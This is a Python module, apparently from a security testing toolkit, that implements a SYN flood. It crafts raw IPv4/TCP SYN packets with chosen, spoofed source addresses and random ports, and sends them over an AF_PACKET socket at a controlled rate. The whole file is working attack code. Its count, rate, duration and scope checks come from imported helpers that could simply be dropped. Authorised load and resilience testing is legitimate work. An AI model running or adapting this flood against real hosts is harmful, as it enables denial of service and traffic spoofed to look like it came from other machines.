"""SYN flood, bounded in count and in rate, with the standard library alone.

Payload: `destination`, `dport`, `sources` (addresses), `packets`, `rate` (a second), `mark`, `nonce`, `scope`.
Reply: `sent`, `seconds` and `rate` really reached.
"""

from __future__ import annotations

import random
import socket
import struct
import time
from typing import Any

from recette.probes.attacks.agents import limits, link

SYN = 0x02
WINDOW = 64_240
TICK_S = 0.01
"""Packets leave in a small burst for each tick: sleeping for each of 5,000 a second would cost more than sending."""


def checksum(data: bytes) -> int:
    """Internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, destination: bytes, ports: tuple[int, int], mark: int, nonce: int) -> bytes:
    """IPv4 TCP SYN with both checksums, addresses packed."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, mark, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    segment = struct.pack("!HHIIBBHHH", *ports, nonce, 0, 5 << 4, SYN, WINDOW, 0, 0)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment


def packets(payload: dict[str, Any]) -> list[bytes]:
    """Every SYN of the flood; sources and ports drawn from the nonce, so that a run can be replayed."""
    draw = random.Random(payload["nonce"])  # noqa: S311 - traffic, not a secret
    sources = [socket.inet_aton(address) for address in payload["sources"]]
    destination = socket.inet_aton(payload["destination"])
    return [
        syn(
            draw.choice(sources),
            destination,
            (draw.randint(1024, 65535), payload["dport"]),
            payload["mark"],
            payload["nonce"],
        )
        for _ in range(payload["packets"])
    ]


def main(payload: dict[str, Any]) -> dict[str, Any]:
    limits.bounded("packets of the flood", payload["packets"], limits.MAX_FLOOD)
    limits.bounded("packets a second", payload["rate"], limits.MAX_RATE)
    limits.bounded("seconds of the flood", payload["packets"] / payload["rate"], limits.MAX_SECONDS)
    limits.in_scope(payload["destination"], payload["scope"])
    path = link.way_out(payload["destination"])
    ethernet = bytes.fromhex((path.peer_mac + path.mac).replace(":", "")) + struct.pack("!H", link.IPV4)
    frames = [ethernet + packet for packet in packets(payload)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((path.dev, 0))
        started = time.monotonic()
        sent = pour(raw, frames, payload["rate"])
        seconds = time.monotonic() - started
    return {"sent": sent, "seconds": seconds, "rate": sent / seconds if seconds else 0.0}


def pour(raw: socket.socket, frames: list[bytes], rate: float) -> int:
    """Send in step with the clock, never above `rate`: a host that lags behind sends later, not faster."""
    burst = max(1, int(rate * TICK_S))
    due = time.monotonic()
    for first in range(0, len(frames), burst):
        for frame in frames[first : first + burst]:
            raw.send(frame)
        due = max(due + burst / rate, time.monotonic())
        time.sleep(max(0.0, due - time.monotonic()))
    return len(frames)
